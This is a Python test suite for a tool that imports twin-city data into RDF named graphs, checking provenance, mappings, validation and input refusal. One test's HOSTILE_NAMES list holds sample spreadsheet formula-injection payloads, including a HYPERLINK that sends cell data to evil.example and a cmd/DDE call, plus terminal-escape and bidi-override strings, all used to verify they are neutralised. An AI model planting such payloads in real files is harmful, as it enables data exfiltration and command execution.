"""`cityrdf world import` on the small fixture: named graphs, the world vocabulary, one agreement
per pair with one record per statement, the paper untouched, bad input refused whole."""

from __future__ import annotations

import hashlib

import pyoxigraph as ox
import pytest

from cityrdf.errors import BadInput
from cityrdf.project import current_project
from cityrdf.world import run as world_run

from .conftest import FIXTURES, NOW

CR = "https://w3id.org/cityrdf/ontology#"
CRID = "https://w3id.org/cityrdf/id/"
DCAT = "http://www.w3.org/ns/dcat#"
GRAPH = "https://w3id.org/cityrdf/graph/world/"


@pytest.fixture(scope="module")
def imported(tmp_path_factory):
    out = tmp_path_factory.mktemp("world")
    report = world_run.run(
        FIXTURES / "p190-pairs.tsv",
        FIXTURES / "p190-labels.tsv",
        FIXTURES / "twin-cities.csv",
        places=FIXTURES / "populated-places.csv",
        out_dir=out,
        now=NOW,
    )
    store = ox.Store()
    for path in sorted(out.glob("*.nq")):
        store.load(path=str(path), format=ox.RdfFormat.N_QUADS)
    return out, report, store


def rows(store, query: str) -> list[tuple]:
    prologue = f"PREFIX cr: <{CR}> PREFIX prov: <http://www.w3.org/ns/prov#> "
    result = store.query(prologue + query)
    names = [v.value for v in result.variables]
    return [tuple(None if r[n] is None else r[n].value for n in names) for r in result]


def test_the_import_is_the_committed_world_fixture(imported):
    """world.nq (which the manifest's world questions run on) is what the import makes."""
    out, _, _ = imported
    made = ox.Dataset(ox.parse(path=str(out / "wikidata-2016.nq"), format=ox.RdfFormat.N_QUADS))
    for quad in ox.parse(path=str(out / "wikipedia.nq"), format=ox.RdfFormat.N_QUADS):
        made.add(quad)
    committed = ox.Dataset(ox.parse(path=str(FIXTURES / "world.nq"), format=ox.RdfFormat.N_QUADS))
    made.canonicalize(ox.CanonicalizationAlgorithm.UNSTABLE)
    committed.canonicalize(ox.CanonicalizationAlgorithm.UNSTABLE)
    assert set(made) == set(committed)


def test_each_source_is_its_own_named_graph_and_nothing_is_in_the_default_graph(imported):
    _, report, store = imported
    graphs = {g.value for g in store.named_graphs()}
    assert graphs == {GRAPH + "wikidata-2016", GRAPH + "wikipedia"}
    assert not list(store.quads_for_pattern(None, None, None, ox.DefaultGraph()))
    assert [s.source for s in report.sources] == ["wikidata-2016", "wikipedia"]


def test_one_agreement_per_pair_with_one_record_per_statement(imported):
    _, _, store = imported
    found = rows(
        store,
        "SELECT ?agreement (COUNT(DISTINCT ?record) AS ?records) WHERE { "
        f"GRAPH <{GRAPH}wikidata-2016> {{ ?agreement cr:attestedBy ?record }} }} GROUP BY ?agreement",
    )
    counts = {a.removeprefix(CRID): int(n) for a, n in found}
    # the crawl states Isfahan - Venice and Los Angeles - Mexico City in both directions
    assert counts == {
        "agreement/baalbek--isfahan": 1,
        "agreement/isfahan--wd-q641": 2,
        "agreement/baku--tabriz": 2,
        "agreement/los-angeles--tehran": 1,
        "agreement/los-angeles--wd-q1489": 2,
    }
    parties = rows(
        store,
        "SELECT ?a (COUNT(DISTINCT ?c) AS ?n) WHERE { GRAPH ?g { ?a cr:party ?c } } GROUP BY ?a",
    )
    assert parties and all(int(n) == 2 for _, n in parties)


def test_cities_are_one_resource_across_sources_and_the_papers_keep_their_iri(imported):
    _, _, store = imported
    graphs_of = {}
    for city, graph in rows(store, "SELECT ?c ?g WHERE { GRAPH ?g { ?c a cr:City } }"):
        graphs_of.setdefault(city.removeprefix(CRID), set()).add(graph.removeprefix(GRAPH))
    # "Kazan, Russia" (Wikipedia) is the paper's Kazan; Mexico City is one item in both sources
    assert graphs_of["city/kazan"] == {"wikipedia"}
    assert graphs_of["city/wd/Q1489"] == {"wikidata-2016", "wikipedia"}
    assert graphs_of["city/isfahan"] == {"wikidata-2016", "wikipedia"}
    same_as = rows(
        store,
        f"SELECT ?q WHERE {{ GRAPH ?g {{ <{CRID}city/wd/Q1489> "
        "<http://www.w3.org/2002/07/owl#sameAs> ?q } }",
    )
    assert {q for (q,) in same_as} == {"http://www.wikidata.org/entity/Q1489"}


def test_world_cities_link_wikidata_and_canonical_geonames_iris_only(imported):
    """A world city's outside identifiers: its Wikidata item and its GeoNames feature in the form
    GeoNames publishes (https://sws.geonames.org/N/), as the paper's links have it."""
    import re

    _, _, store = imported
    targets = rows(
        store,
        """SELECT ?p ?o WHERE { GRAPH ?g { ?city a cr:City ; ?p ?o
          FILTER(?p IN (<http://www.w3.org/2002/07/owl#sameAs>,
                        <http://www.w3.org/2004/02/skos/core#exactMatch>)) } }""",
    )
    assert targets
    for predicate, target in targets:
        if "geonames" in target:
            assert predicate.endswith("exactMatch")
            assert re.fullmatch(r"https://sws\.geonames\.org/[1-9]\d*/", target), target
        else:
            assert re.fullmatch(r"http://www\.wikidata\.org/entity/Q[1-9]\d*", target), target


def test_countries_carry_their_iso_code_and_world_region(imported):
    _, _, store = imported
    found = set(
        rows(
            store,
            """SELECT ?c ?iso ?region WHERE { GRAPH ?g { ?c a cr:Country ;
               cr:iso3166Alpha2 ?iso . OPTIONAL { ?c cr:worldRegion ?region } } }""",
        )
    )
    assert (CRID + "country/mexico", "MX", CRID + "region/america") in found
    assert (CRID + "country/iran", "IR", CRID + "region/middle-east-north-africa") in found
    assert (CRID + "country/japan", "JP", CRID + "region/asia") in found


def test_every_record_names_its_dataset_with_licence_and_retrieval_time(imported):
    _, _, store = imported
    found = set(
        rows(
            store,
            """SELECT ?dataset ?licence ?when WHERE { GRAPH ?g { ?record a cr:SourceRecord ;
            prov:wasDerivedFrom ?dataset . ?dataset <http://purl.org/dc/terms/license> ?licence ;
            prov:generatedAtTime ?when } }""",
        )
    )
    assert found == {
        (
            CRID + "dataset/world/wikidata-2016",
            "https://creativecommons.org/publicdomain/zero/1.0/",
            "2026-12-01T00:00:00Z",
        ),
        (
            CRID + "dataset/world/wikipedia",
            "https://creativecommons.org/licenses/by-sa/4.0/",
            "2026-12-01T00:00:00Z",
        ),
    }


def test_ambiguous_and_unreadable_names_go_to_the_review_queue(imported):
    out, _, _ = imported
    review = (out / "review.csv").read_text(encoding="utf-8")
    assert "Springfield,United States,ambiguous" in review
    assert "Nowhere,Grece,country not recognised" in review
    assert "line 7 not stated: an empty field" in review
    sssom = (out / "resolution.sssom.tsv").read_text(encoding="utf-8")
    assert "crid:city/wd/Q1489\tMexico City (Mexico)\tskos:exactMatch\twikidata:Q1489" in sssom


def test_the_name_resolutions_are_a_valid_sssom_mapping_set_read_back_by_sssom_py(imported):
    import io

    from sssom.parsers import parse_sssom_table
    from sssom.validators import validate
    from sssom.writers import write_rdf

    out, _, store = imported
    msdf = parse_sssom_table(out / "resolution.sssom.tsv")
    validate(msdf)  # JSON schema, prefix map completeness, strict CURIEs: raises on an error
    write_rdf(msdf, io.StringIO())  # expands every entity reference: one not a CURIE is refused
    assert msdf.metadata["mapping_set_id"] == "https://w3id.org/cityrdf/id/mappings/world-names"
    # the fixture's names that reached a QID are the Wikipedia table's: each row names its dataset,
    # the one the source's graph describes
    assert set(msdf.df["subject_source"]) == {"crid:dataset/world/wikipedia"}
    dataset = ox.NamedNode(msdf.converter.expand("crid:dataset/world/wikipedia"))
    assert list(store.quads_for_pattern(dataset, None, ox.NamedNode(DCAT + "Dataset")))
    assert set(msdf.df["mapping_tool"]) == {"cityrdf world import"}
    mexico = msdf.df[msdf.df["subject_id"] == "crid:city/wd/Q1489"]
    assert mexico[["subject_label", "object_id", "mapping_justification"]].values.tolist() == [
        ["Mexico City (Mexico)", "wikidata:Q1489", "semapv:LexicalMatching"]
    ]
    assert all(o.startswith("wikidata:Q") for o in msdf.df["object_id"])


def test_the_project_sources_are_never_written(tmp_path, fixture_sources):
    def digest():
        return {
            p: hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(current_project().data_dir.rglob("*"))
            if p.is_file()
        }

    before = digest()
    world_run.run(**fixture_sources, out_dir=tmp_path, now=NOW)
    assert digest() == before


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("pairs.tsv", "Q1\tQ2\nQ1\tP17\n", r"pairs.tsv:2: expected QID<TAB>QID"),
        ("pairs.tsv", "Q5\tQ5\n", r"pairs.tsv:1: Q5 is twinned with itself"),
        (
            "twins.csv",
            "a,b,c,d\nx,y,z,w\n",
            r"twins.csv:1: the header must be city1,country1,city2,country2",
        ),
        (
            "twins.csv",
            "city1,country1,city2,country2\nx,y,z\n",
            r"twins.csv:2: expected 4 fields, got 3",
        ),
    ],
)
def test_bad_input_is_refused_with_its_line_and_nothing_is_written(
    tmp_path, name, content, message
):
    bad = tmp_path / name
    bad.write_text(content, encoding="utf-8")
    out = tmp_path / "world"
    kind = {"wikidata_pairs": bad} if name.endswith(".tsv") else {"wikipedia": bad}
    good = (
        {"wikipedia": FIXTURES / "twin-cities.csv"}
        if name.endswith(".tsv")
        else {"wikidata_pairs": FIXTURES / "p190-pairs.tsv"}
    )
    with pytest.raises(BadInput, match=message):
        world_run.run(**kind, **good, places=FIXTURES / "populated-places.csv", out_dir=out)
    assert not out.exists() or not any(out.iterdir())


def test_no_source_and_labels_without_pairs_are_refused():
    with pytest.raises(BadInput, match="at least one of"):
        world_run.run()
    with pytest.raises(BadInput, match="--wikidata-labels needs --wikidata-pairs"):
        world_run.run(wikidata_labels=FIXTURES / "p190-labels.tsv")


def test_the_command_writes_the_graphs_and_refuses_bad_input_with_exit_2(
    run_cityrdf_here, tmp_path
):
    out = tmp_path / "world"
    done = run_cityrdf_here(
        "world",
        "import",
        "--wikipedia",
        FIXTURES / "twin-cities.csv",
        "--places",
        FIXTURES / "populated-places.csv",
        "--out",
        out,
    )
    assert done.returncode == 0, done.stderr
    assert sorted(p.name for p in out.iterdir()) == [
        "merges.sssom.tsv",
        "resolution.sssom.tsv",
        "review.csv",
        "wikipedia.nq",
    ]
    bad = tmp_path / "bad.tsv"
    bad.write_text("Q1 Q2\n", encoding="utf-8")
    refused = run_cityrdf_here("world", "import", "--wikidata-pairs", bad, "--out", tmp_path / "x")
    assert refused.returncode == 2
    assert refused.stderr == f"error: {bad}:1: expected QID<TAB>QID[<TAB>start time]\n"


def test_the_world_graphs_conform_to_the_world_shapes():
    from cityrdf.world.validate import validate_world

    found = validate_world([FIXTURES / "world.nq"])
    assert set(found) == {GRAPH + "wikidata-2016", GRAPH + "wikipedia"}
    violations = [f for findings in found.values() for f in findings if f.severity == "Violation"]
    assert violations == []
    # the one city no source gives a country: a warning, named
    warnings = [(f.focus_node, f.component) for f in found[GRAPH + "wikipedia"]]
    assert warnings == [(CRID + "city/world/xx/nowhere", "sh:MinCountConstraintComponent")]


def test_an_agreement_with_one_party_violates_the_world_shapes(tmp_path):
    from cityrdf.world.validate import validate_world

    broken = tmp_path / "broken.nq"
    party = f"<{CRID}agreement/baku--tabriz> <{CR}party> <{CRID}city/baku>"
    lines = (FIXTURES / "world.nq").read_text(encoding="utf-8").splitlines()
    kept = [line for line in lines if not line.startswith(party)]
    assert len(kept) == len(lines) - 1
    broken.write_text("\n".join(kept) + "\n", encoding="utf-8")
    found = validate_world([broken])[GRAPH + "wikidata-2016"]
    assert [(f.severity, f.focus_node, f.path, f.component) for f in found] == [
        ("Violation", CRID + "agreement/baku--tabriz", "cr:party", "sh:MinCountConstraintComponent")
    ]


def test_the_world_map_and_the_tables_plot_draw_from_the_world_graphs(tmp_path):
    from cityrdf import plot
    from cityrdf.rdf.graph import load_store

    store = load_store()
    store.load(path=str(FIXTURES / "world.nq"), format=ox.RdfFormat.N_QUADS)
    drawn = plot.plot("map", tmp_path / "ir.png", store, source="wikipedia", country="IR")
    assert drawn.read_bytes().startswith(b"\x89PNG")
    assert plot.plot("tables", tmp_path / "t.svg", store).read_text().startswith("<?xml")
    network = plot.plot("network", tmp_path / "n.svg", store, source="wikipedia", country="IR")
    # the Iranian cities of the Wikipedia fixture and their partners are the drawn labels
    assert all(name in network.read_text() for name in ("Isfahan", "Kazan", "Baalbek"))
    with pytest.raises(BadInput, match="no pact of a city in JP"):
        plot.plot("map", tmp_path / "jp.png", store, source="wikidata-2016", country="JP")
    with pytest.raises(BadInput, match="--source needs --country"):
        plot.plot("map", tmp_path / "x.png", store, source="wikipedia")


def test_the_world_layer_is_published_as_its_own_dataset_with_each_sources_licence(tmp_path):
    import shutil

    import rdflib

    from cityrdf.describe import DATASET
    from cityrdf.rdf.graph import load_store
    from cityrdf.world.publication import write_world

    world = tmp_path / "world"
    world.mkdir()
    shutil.copyfile(FIXTURES / "world.nq", world / "wikipedia.nq")  # both graphs, one file
    site = tmp_path / "site"
    write_world(site, "https://example.org/", DATASET, load_store(), world)
    assert (site / "ontology" / "cityrdf-wikidata.sssom.tsv").is_file()
    assert (site / "dumps" / "world" / "wikipedia.nq").read_bytes() == (
        FIXTURES / "world.nq"
    ).read_bytes()
    void = rdflib.Graph().parse(site / "world" / "void.ttl")
    ns = "http://rdfs.org/ns/void#"
    subset = rdflib.URIRef("https://example.org/world/void.ttl#wikipedia")
    licence = void.value(subset, rdflib.URIRef("http://purl.org/dc/terms/license"))
    assert str(licence) == "https://creativecommons.org/licenses/by-sa/4.0/"
    linkset = rdflib.URIRef("https://example.org/world/void.ttl#wikipedia--paper")
    assert void.value(linkset, rdflib.URIRef(ns + "subjectsTarget")) == rdflib.URIRef(DATASET.value)
    # records of the paper's agreements in the fixture (both graphs, as the file holds both):
    # crawl: Isfahan-Baalbek 1, Tabriz-Baku 2, Tehran-Los Angeles 1; Wikipedia: Isfahan-Baalbek 1,
    # Tabriz-Kazan 1
    assert int(void.value(linkset, rdflib.URIRef(ns + "triples"))) == 6


# Names a scraped Wikipedia list could carry: formulas a spreadsheet runs, an escape sequence that
# retitles a terminal, a right-to-left override that reorders what a reader sees.
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(A1:A9)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "Teh\x1b]0;owned\x07ran",
    "Isfa\u202ehan",
]


def test_hostile_names_are_refused_into_the_review_queue_and_written_harmless(tmp_path):
    table = tmp_path / "twin-cities.csv"
    lines = ["city1,country1,city2,country2", "Isfahan,Iran,Kazan,Russia"]
    lines += [f'"{name.replace(chr(34), 2 * chr(34))}",Iran,Kazan,Russia' for name in HOSTILE_NAMES]
    table.write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = tmp_path / "world"
    world_run.run(wikipedia=table, places=FIXTURES / "populated-places.csv", out_dir=out, now=NOW)
    import csv

    from cityrdf.fs.csvsafe import is_formula

    review = list(csv.reader((out / "review.csv").open(encoding="utf-8", newline="")))
    sssom = [
        line.split("\t")
        for line in (out / "resolution.sssom.tsv").read_text(encoding="utf-8").splitlines()
        if not line.startswith("#")
    ]
    for cell in [c for row in review + sssom for c in row]:
        assert not is_formula(cell), cell
        assert not any(ch in cell for ch in "\x1b\x07\u202e"), cell
    refused = [row for row in review if "not stated" in row[3]]
    assert len(refused) == len(HOSTILE_NAMES)
    assert all("city1: " in row[3] for row in refused)
    graph = (out / "wikipedia.nq").read_text(encoding="utf-8")
    for name in HOSTILE_NAMES:
        assert name not in graph
    assert "Isfahan" in graph  # the good row is stated


def test_a_label_file_with_a_control_character_is_refused_with_its_line(tmp_path):
    labels = tmp_path / "labels.tsv"
    labels.write_text("Q42053\tIsfahan\nQ641\tVen\x1bice\n", encoding="utf-8")
    with pytest.raises(BadInput, match=r"labels.tsv:2: label: contains a control character"):
        world_run.run(
            FIXTURES / "p190-pairs.tsv",
            labels,
            places=FIXTURES / "populated-places.csv",
            out_dir=tmp_path / "world",
            now=NOW,
        )


def test_an_import_without_natural_earth_says_so(tmp_path, monkeypatch, capsys):
    missing = tmp_path / "shared" / "populated-places.csv"
    monkeypatch.setattr(world_run, "DEFAULT_PLACES", missing)
    report = world_run.run(
        wikipedia=FIXTURES / "twin-cities.csv", out_dir=tmp_path / "world", now=NOW
    )
    world_run.print_summary(report)
    err = capsys.readouterr().err
    assert err.startswith(
        f"warning: no Natural Earth populated places at {missing} (give --places)"
    )
    with_places = world_run.run(
        wikipedia=FIXTURES / "twin-cities.csv",
        places=FIXTURES / "populated-places.csv",
        out_dir=tmp_path / "world",
        now=NOW,
    )
    assert with_places.notes == []


def test_an_administrative_unit_party_without_its_reason_violates_the_world_shapes(tmp_path):
    from cityrdf.world.validate import validate_world

    g = f"<{GRAPH}wikidata-2016>"
    typed = f"<{CRID}city/baku> <http://www.w3.org/1999/02/22-rdf-syntax-ns#type> <{CR}TwinnedAdministrativeUnit> {g} .\n"
    note = f'<{CRID}city/baku> <http://www.w3.org/2004/02/skos/core#editorialNote> "An administrative unit or a country, not a town: a test."@en {g} .\n'
    lines = (FIXTURES / "world.nq").read_text(encoding="utf-8")
    explained, bare = tmp_path / "explained.nq", tmp_path / "bare.nq"
    explained.write_text(lines + typed + note, encoding="utf-8")
    bare.write_text(lines + typed, encoding="utf-8")
    assert [
        f for f in validate_world([explained])[GRAPH + "wikidata-2016"] if f.severity == "Violation"
    ] == []
    found = validate_world([bare])[GRAPH + "wikidata-2016"]
    assert [(f.severity, f.focus_node, f.path, f.component) for f in found] == [
        ("Violation", CRID + "city/baku", "skos:editorialNote", "sh:MinCountConstraintComponent")
    ]


def test_bidi_controls_in_a_sources_names_do_not_reach_the_labels(tmp_path):
    """Natural Earth writes some names with a trailing LEFT-TO-RIGHT MARK ("Granada" + U+200E):
    the label is the name, without it (a page sets direction with <bdi>)."""
    import csv

    rows = list(csv.reader((FIXTURES / "populated-places.csv").open(encoding="utf-8")))
    for row in rows[1:]:
        row[2], row[3] = row[2] + "\u200e", "\u2067" + row[3] + "\u2069\u200f"  # name, name_en
    places = tmp_path / "places.csv"
    with places.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    out = tmp_path / "world"
    world_run.run(
        FIXTURES / "p190-pairs.tsv",
        FIXTURES / "p190-labels.tsv",
        FIXTURES / "twin-cities.csv",
        places=places,
        out_dir=out,
        now=NOW,
    )
    labels = [
        q.object.value
        for path in sorted(out.glob("*.nq"))
        for q in ox.parse(path=str(path), format=ox.RdfFormat.N_QUADS)
        if q.predicate.value == "http://www.w3.org/2000/01/rdf-schema#label"
    ]
    assert "Venice" in labels and "Mexico City" in labels
    assert not [label for label in labels if set(label) & set("\u200e\u200f\u2067\u2069")]


def test_published_city_pages_set_the_world_layers_pacts_beside_the_papers(tmp_path):
    """`cityrdf publish` hands the world layer to the city pages in a store of its own: each
    partner with the sources that attest it, and no page for a city only the world layer knows."""
    import shutil

    from cityrdf.rdf.graph import load_store
    from cityrdf.views.resource import SiteModel
    from cityrdf.world.publication import world_store

    world = tmp_path / "world"
    world.mkdir()
    shutil.copyfile(FIXTURES / "world.nq", world / "wikipedia.nq")  # both graphs, one file
    (world / "suggestions.nq").write_text("")  # predictions are no source of pacts
    model = SiteModel(load_store())
    model.world_store = world_store(world)
    view = model.view(CRID + "city/isfahan")
    assert view.world_sources == ["paper", "wikidata-2016", "wikipedia"]
    attested = {row.partner.label("en"): row.attested for row in view.comparison}
    assert attested["Venice"] == [False, True, False]  # the 2016 crawl's alone
    assert attested["Baalbek"] == [True, True, True]
    assert CRID + "city/wd/Q641" not in model.pages
    assert world_store(tmp_path / "nothing") is None
